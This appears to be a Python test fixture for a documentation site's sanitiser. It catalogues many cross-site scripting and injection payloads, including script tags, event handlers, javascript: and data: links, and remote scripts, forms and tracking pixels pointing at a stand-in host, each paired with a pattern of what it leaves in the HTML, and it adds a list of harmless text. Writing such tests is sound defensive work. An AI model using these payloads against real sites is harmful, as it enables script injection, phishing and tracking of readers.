"""Ways in which a stranger's pull request could put something unsafe before a reader, and text that only looks like them.

Each payload says what of it reaches the built page when nobody stops it: tests build them all, so that none is idle.
A page is written as its body, below the front matter of cases.PROSE.
"""

from __future__ import annotations

from typing import NamedTuple

from cases import BASE, PROSE

PAGE = "docs/page.md"
MODEL = BASE["docs/m/law.md"]
RAN = "alert(1)"


class Payload(NamedTuple):
    """Files over cases.BASE; `reaches` is a pattern of what stands in the HTML of `page`."""

    files: dict[str, str]
    reaches: str
    page: str = "page/index.html"


def body(text: str, reaches: str) -> Payload:
    return Payload({PAGE: PROSE + text + "\n"}, reaches)


def front(line: str, reaches: str) -> Payload:
    """A page with a line of front matter in place of its own."""
    key = line.split(":")[0]
    rows = [line if row.startswith(f"{key}:") else row for row in PROSE.splitlines()]
    return Payload({PAGE: "\n".join(rows) + "\nWords.\n"}, reaches)


def model(old: str, new: str, reaches: str) -> Payload:
    """A model with something changed; it has no pages of notes, so that its notes stand under its clauses."""
    assert old in MODEL
    return Payload({"docs/m/other.md": MODEL.replace("id: law", "id: other").replace(old, new)}, reaches, "m/other/index.html")


def source(old: str, new: str, reaches: str) -> Payload:
    """A source record with something changed, and a page that lists it."""
    record = BASE["docs/_data/sources/statute.yml"]
    assert old in record
    return Payload({"docs/_data/sources/statute.yml": record.replace(old, new), PAGE: PROSE + "/// list | sources\n///\n"}, reaches)


def case(key: str, value: str, reaches: str) -> Payload:
    """A case record with a field of one's own, and a page that lists it."""
    fields = {"name": "A v. B", "court": "Court", "holding": "Held.", "limits": "None.", key: value}
    text = "".join(f"{name}: {words}\n" for name, words in fields.items())
    record = f"{text}decided: '2020'\nstage: open\nas_of: '2026'\nbears_on: [m/law#first]\nsources: [statute]\n"
    return Payload({"docs/_data/cases/a.yml": record, PAGE: PROSE + "/// list | cases\n///\n"}, reaches)


PAYLOADS = {
    # Raw HTML
    "a script": body("<script>alert(1)</script>", r"<script>alert\(1\)"),
    "a script within a sentence": body("Words <script>alert(1)</script> words.", r"<script>alert\(1\)"),
    "a script of another site": body('<script src="https://stranger.example/x.js"></script>', r'<script src="https://stranger'),
    "a script in capitals": body("<SCRIPT>alert(1)</SCRIPT>", r"<SCRIPT>alert\(1\)"),
    "a script below an indent": body("   <script>alert(1)</script>", r"<script>alert\(1\)"),
    "a script in a list": body("- item\n\n    <script>alert(1)</script>", r"<script>alert\(1\)"),
    "a script in a quotation": body("> <script>alert(1)</script>", r"<script>alert\(1\)"),
    "a script in a table": body("| a | b |\n| --- | --- |\n| <script>alert(1)</script> | c |", r"<td><script>alert\(1\)"),
    "a script in a heading": body("## <script>alert(1)</script>", r"<h2[^>]*><script>alert\(1\)"),
    "a handler": body("<img src=x onerror=alert(1)>", r"<img src=x onerror="),
    "a handler within a sentence": body('Words <b onmouseover="alert(1)">words</b>.', r"<b onmouseover="),
    "a handler over lines": body('<img src="x"\nonerror="alert(1)">', r'onerror="alert'),
    "a handler after a slash": body("<img/src=x/onerror=alert(1)>", r"<img/src=x/onerror="),
    "a handler of a known element": body('<details open ontoggle="alert(1)"><summary>x</summary></details>', r"ontoggle="),
    "a link to a script in HTML": body('<a href="javascript:alert(1)">x</a>', r'href="javascript:'),
    "a link to the data with a handler": body('<a href="../data/models.json" onclick="alert(1)">x</a>', r"onclick="),
    "a frame": body('<iframe src="https://stranger.example/"></iframe>', r"<iframe"),
    "a frame with a document": body('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', r"<iframe srcdoc"),
    "a form": body('<form action="https://stranger.example/"><input name="alien"></form>', r"<form action="),
    "an input": body('Your name: <input name="n" autofocus onfocus="alert(1)">', r"<input name"),
    "a button": body('<button formaction="javascript:alert(1)">Go</button>', r"<button formaction"),
    "an object": body('<object data="https://stranger.example/x"></object>', r"<object"),
    "an embed": body('<embed src="https://stranger.example/x">', r"<embed"),
    "a refresh": body('<meta http-equiv="refresh" content="0;url=https://stranger.example/">', r'http-equiv="refresh"'),
    "another base": body('<base href="https://stranger.example/">', r"<base"),
    "a link element": body('<link rel="stylesheet" href="https://stranger.example/x.css">', r"stranger\.example/x\.css"),
    "styles": body("<style>body { display: none }</style>", r"<style>body"),
    "a style": body('<p style="position: fixed; inset: 0">Pay here.</p>', r'<p style="position'),
    "a tracker": body('<img src="//stranger.example/pixel.gif" alt="">', r"//stranger\.example/pixel"),
    "a drawing": body("<svg><animate onbegin=alert(1) attributeName=x></svg>", r"<animate onbegin"),
    "mathematics": body('<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', r"<maction"),
    "a film": body('<video src="https://stranger.example/x.mp4" onloadstart="alert(1)"></video>', r"<video"),
    "a template": body("<template><script>alert(1)</script></template>", r"<template>"),
    "a slot of the theme": body('<div data-md-component="announce" class="md-overlay">x</div>', r'class="md-overlay"'),
    "the end of the article": body("</article></main><p>Words of ours.</p>", r"</article></main><p>Words of ours"),
    "an element of no name": body("<x-y onclick=alert(1)>x</x-y>", r"<x-y onclick"),
    "a comment": body("<!-- see --><!--[if IE]><script>alert(1)</script><![endif]-->", r"<!--\[if IE\]>"),
    "what is held back from Markdown": body("<!--held 0-->", r"Words|<article[^>]*>"),
    "a CDATA section": body("<![CDATA[ <script>alert(1)</script> ]]>", r"<!\[CDATA\["),
    "an instruction": body("<?xml version='1.0'?>\n\n<?php alert(1) ?>", r"<\?"),
    "a declaration": body("<!DOCTYPE html [<!ENTITY x 'y'>]>", r"<!DOCTYPE html \["),
    # Where code seems to begin and does not
    "a fence that is never closed": body("```\n<script>alert(1)</script>", r"<script>alert\(1\)"),
    "a fence that is no fence": body("``` a b\n\n<script>alert(1)</script>\n\n``` a b", r"<script>alert\(1\)"),
    "a fence that is indented": body("words\n\n  ```\n<script>alert(1)</script>\n  ```", r"<script>alert\(1\)"),
    "a fence out of step": body("``` a b\nx\n```\ny\n```\n\n<script>alert(1)</script>\n\n``` a b", r"<script>alert\(1\)"),
    "a fence with a brace too many": body("``` { .x } }\n<script>alert(1)</script>\n```", r"<script>alert\(1\)"),
    "backticks out of step": body("One ` two\n` three <img src=x onerror=alert(1)> ` four.", r"<img src=x onerror="),
    "a backtick that is escaped": body("One \\`<img src=x onerror=alert(1)>` two.", r"<img src=x onerror="),
    "backticks after two backslashes": body("One \\\\`a` <img src=x onerror=alert(1)> `b` c` two.", r"<img src=x onerror="),
    "backticks over a line that is HTML": body("One `\n<script>alert(1)</script>\n` two.", r"<script>alert\(1\)"),
    "backticks over cells": body("| a | b |\n| --- | --- |\n| \\` | <img src=x onerror=alert(1)> \\` |", r"<img src=x onerror="),
    # Attribute lists
    "a handler by attribute list": body("[x](page.md){: onclick=alert(1) }", r'onclick="alert\(1\)"'),
    "a handler without a colon": body("**x**{onmouseover=alert(1)}", r"onmouseover="),
    "a handler of a paragraph": body("Words.\n{: onclick=alert(1) }", r"<p onclick="),
    "a handler of a heading": body('## Heading {#id onclick="alert(1)"}', r"onclick="),
    "a handler of a cell": body("| a | b |\n| --- | --- |\n| c {: onclick=alert(1) } | d |", r"<td onclick="),
    "a handler of code": body("`x`{: onclick=alert(1) }", r"<code onclick="),
    "a handler of a fence": body("``` { .x onclick=alert(1) }\ncode\n```", r"onclick="),
    "a style by attribute list": body("Words.\n{: style=position:fixed;inset:0 }", r'<p style="position'),
    "another address by attribute list": body("[x](page.md){: href=javascript:alert(1) }", r'href="javascript:'),
    "a picture of another site by attribute list": body("![x](x.png){: src=//stranger.example/x.png }", r'src="//stranger'),
    "a class of the theme": body("Words.\n{: .md-overlay }", r'class="md-overlay"'),
    "an id of the theme": body('## {"base":"x"} {#__config}', r'id="__config"'),
    # Addresses
    "a link to a script": body("[x](javascript:alert(1))", r'href="javascript:'),
    "a link to a script in capitals": body("[x](JaVaScRiPt:alert(1))", r'href="JaVaScRiPt:'),
    "a link to a script in brackets": body("[x](<javascript:alert(1)>)", r'href="javascript:'),
    "a link to a script after spaces": body("[x](   javascript:alert(1))", r'href="javascript:'),
    "a link to a script over lines": body("[x](java\nscript:alert(1))", r'href="java\s?script:'),
    "a link to a script by entity": body("[x](&#106;avascript:alert(1))", r'href="(?:&#106;|j)avascript:'),
    "a link to a script by a named entity": body("[x](javascript&colon;alert(1))", r'href="javascript(?:&colon;|:)'),
    "a link to a script by a tab": body("[x](java&Tab;script:alert(1))", r'href="java(?:&Tab;|\t)script:'),
    "a link to a script by code": body("[x](java`script`:alert\\(1\\))", r'href="javascript:'),
    "a link to a script by reference": body("[x][r]\n\n[r]: javascript:alert(1)", r'href="javascript:'),
    "a link to a script by reference over lines": body("[x][r]\n\n[r]:\n  javascript:alert(1)", r'href="javascript:'),
    "a link to a script by a short reference": body("[r]\n\n[r]: <javascript:alert(1)> 'title'", r'href="javascript:'),
    "a reference in a quotation": body("[r]\n\n> [r]: javascript:alert(1)", r'href="javascript:'),
    "an autolink to a script": body("<javascript://%0aalert(1)>", r'href="javascript:'),
    "a link to data": body("[x](data:text/html;base64,PHNjcmlwdD4=)", r'href="data:'),
    "a link to VBScript": body("[x](vbscript:msgbox)", r'href="vbscript:'),
    "a link to a blob": body("[x](blob:https://stranger.example/1)", r'href="blob:'),
    "a picture by data": body("![x](data:image/svg+xml;base64,PHN2Zz4=)", r'src="data:'),
    "a picture of another site": body("![x](https://stranger.example/x.png)", r'src="https://stranger'),
    "a picture of another site by reference": body("![x][r]\n\n[r]: //stranger.example/x.png", r'src="//stranger'),
    "a picture behind backslashes": body("![x](<\\\\\\\\stranger.example/x.png>)", r'src="\\\\stranger'),
    "a picture behind a slash and a backslash": body("![x](/\\\\stranger.example/x.png)", r'src="/\\stranger'),
    "an address without its slashes": body("![x](https:stranger.example/x.png)", r'src="https:stranger'),
    # Front matter: templates take it as it stands
    "a title with a script": front("title: <script>alert(1)</script>", r"<title><script>|<h1><script>"),
    "a title that leaves its attribute": front("title: 'x\" onmouseover=\"alert(1)'", r'x" onmouseover="alert\(1\)'),
    "a summary that becomes a refresh": front("summary: '0;url=//stranger.example\" http-equiv=\"refresh'", r'http-equiv="refresh"'),
    "a summary with a script": front('summary: x"><script>alert(1)</script>', r"<script>alert\(1\)"),
    "a date with a script": front("date: <script>alert(1)</script>", r"<script>alert\(1\)"),
    "a title that YAML hides": front('title: "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"', r"<h1><script>"),
    # Clauses
    "a clause's title with a script": model("clause | First", "clause | First <img src=x onerror=alert(1)>", r"<img src=x onerror="),
    "a clause's title with attributes": model("clause | First", "clause | First {onclick=alert(1)", r'<h2[^>]* onclick="alert'),
    "a clause's title with a link": model("clause | First", "clause | [First](javascript:alert(1))", r'href="javascript:'),
    "a clause's id with attributes": model("id: first", "id: first onclick=alert(1)", r'onclick="?alert'),
    "a clause's note with a script": model("The clerk acts.", "The clerk acts <script>alert(1)</script>.", r"<script>alert\(1\)"),
    "a note's heading with code": model("The clerk acts.", "The clerk acts.\n\n### `<img src=x onerror=alert(1)>`\n\nWords.", r"<img src=x onerror="),
    # Records: lists draw them as Markdown
    "a record with a script": source("note: Read whole.", "note: Read <script>alert(1)</script> whole.", r"<script>alert\(1\)"),
    "a record with attributes": source("note: Read whole.", "note: '*Read*{: onmouseover=alert(1) } whole.'", r"onmouseover="),
    "a record with a link": source("title: Statute", "title: '[x](javascript:alert(1))'", r'href="javascript:'),
    "a record whose citation takes over the link": source('1373"\n', '1373 ]\\x28javascript:alert\\x281\\x29\\x29"\n', r'href="javascript:'),
    "a record with a definition": source("note: Read whole.", 'note: "Read [r] whole.\\n\\n[r]: javascript:alert(1)\\n\\n"', r'href="javascript:'),
    "a record with a script of another place": source("url: https://law.example.gov/1373", "url: javascript:alert(1)", r'href="javascript:'),
    "a record with a tag that YAML hides": source("note: Read whole.", 'note: "Read \\u003cimg src=x onerror=alert(1)\\u003e whole."', r"<img src=x onerror="),
    "a case with a handler": case("holding", "'Held *so*{onclick=alert(1)}.'", r"onclick="),
    "a case with a picture": case("limits", "'![x](https://stranger.example/x.png)'", r'src="https://stranger'),
    "a case's name with HTML": case("name", "'<b onclick=alert(1)>A</b> v. B'", r"<b onclick="),
    # Single data files
    "a vocabulary with a script": Payload(
        {"docs/_data/jurisdictions.yml": "al: <script>alert(1)</script>\n", PAGE: PROSE + "/// list | states\n///\n"}, r"<script>alert\(1\)"
    ),
    "notes with a script": Payload(
        {"docs/m/law/first.md": BASE["docs/m/law/first.md"] + "\n<script>alert(1)</script>\n"}, r"<script>alert", "m/law/first/index.html"
    ),
}

# Bodies of pages that draw no finding of rules.safety.
INNOCENT = {
    "less and greater": "Where a < b and c > d, or 5 <6, or x <= y, <- and <<, nothing is meant by it.",
    "an ampersand": "Smith & Jones, AT&T, and the firm’s R&D; no entity.",
    "entities that Markdown needs": "Write &lt;name&gt; &amp; sign; a pipe is &#124;, an asterisk &#42;.",
    "code with a tag": 'Write `<script>` and `<a href="x">` as words.',
    "code with two backticks": "Write ``a `<b>` c`` so.",
    "code with attributes": "A heading may have an id: `{#history}` or `{: onclick=x }`.",
    "fenced code": "```html\n<script>alert(1)</script>\n```",
    "fenced code by tildes": '~~~\n<iframe src="x"></iframe> {: onclick=x }\n~~~',
    "a heading with an id": "## History {#history}\n\nWords.",
    "a lead": "Words.\n{: .lede }",
    "a link to a page": "See [the law](m/law.md#first) and [this page](#top).\n\n## Top\n\nWords.",
    "a link with a title": '[The law](m/law.md "Its title") is there.',
    "a link to data": 'See <a href="../data/models.json">the data</a>.',
    "a reference": "See [the law][law].\n\n[law]: m/law.md",
    "words about scripts": "The javascript: scheme, data: what is kept, and blob: storage are words here.",
    "a colon after brackets": "He said [sic]: never. It reads “[a]: b”.",
    "a note": "The statute says so.[^statute, at 643]",
    "a reference to a clause": "See [§ m/law#first].",
    "blanks": "The text says [GOVERNMENT NAME] and [DAYS: 5].",
    "emphasis": "*Galarza v. Szalczyk* was **not** followed.",
    "a table": "| State | Rule |\n| --- | --- |\n| Ohio | none \\| few |",
    "Spanish, marked so": "Usted tiene derecho a no abrir la puerta.\n{: lang=es }",
    "a quotation": "> It is so ordered.",
    "a rule": "One.\n\n---\n\nTwo.",
    "Spanish": "José Peña y Núñez, Dirección de Inmigración, ¿qué? ¡sí!",
    "French and German": "L’été à Besançon, naïve œuvre; Straße, Müller, Größe.",
    "Polish, Czech, Turkish": "Łódź, Gdańsk, Dvořák, İstanbul, Iğdır.",
    "Arabic and Hindi with their vowels": "مُحَمَّد شَدَّة and हिन्दी क़ानून and עִבְרִית.",
    "Vietnamese": "Nguyễn Thị Hương, Đặng Văn Lâm.",
    "Hawaiian": "Hawaiʻi, Oʻahu, Kauaʻi and Lānaʻi.",
    "quotation marks": "“One ‘two’ three,” the court’s words; «quatre».",
    "dashes": "Pages 10–12, the rule—as read—holds; well-known.",
    "signs of law": "§ 10, §§ 11–12, ¶ 4, 8 U.S.C. §\u00a01373, No.\u00a05, 10\u00a0days, Art.\u00a0IV.",
    "fractions and raised digits": "½ of it, ⅔ of them, 10 m², CO₂, 1ˢᵗ is 1st".replace("ˢᵗ", "st"),
    "currency and others": "€5, £6, 50 %, 7°, ©, ®, ™, …, • and ✓.",
    "a Greek letter alone": "The rate λ and the share π are given; Δ is the change, Σ the sum.",
    "a minus sign": "A change of −3 points, from 4 to (−1).",
    "a word of another script": "The notice is posted in 中文, العربية, አማርኛ, हिन्दी and 한국어.",
    "arrows and comparisons": "A → B, x ≥ 2, y ≤ 3, z ≠ 4.",
    "an accent that stands by itself": "The name Ẹ́niọlá has one, and é is written whole.",
}
